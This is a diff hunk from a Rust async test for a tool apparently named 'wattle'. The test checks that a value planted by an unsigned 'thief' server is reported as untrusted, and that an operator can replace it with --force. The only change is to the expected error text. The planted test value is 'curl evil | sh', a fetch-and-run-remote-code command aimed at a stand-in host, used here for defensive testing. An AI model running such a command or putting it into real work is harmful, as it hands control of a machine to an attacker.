@@ -238,7 +238,7 @@ async fn an_operator_is_told_and_may_put_a_value_of_their_own() {
     put(&thief, "db/part/text", &revision, "curl evil | sh", None).await;
     let got = wattle(&["get", "db/part/text"]);
     assert_eq!(got.code, Some(1), "{got}");
-    let told = "`/wattle/by_hand/entries/db/part/text` in the data space is not trusted: its server has not signed it";
+    let told = "`db/part/text` has no value: db/part: what is there is not trusted: its server has not signed it\n";
     assert!(got.err.contains(told), "{got}");
     let set = wattle(&["set", "db/part/text", "by hand", "--force"]);
     assert_eq!(set.code, Some(0), "{set}");
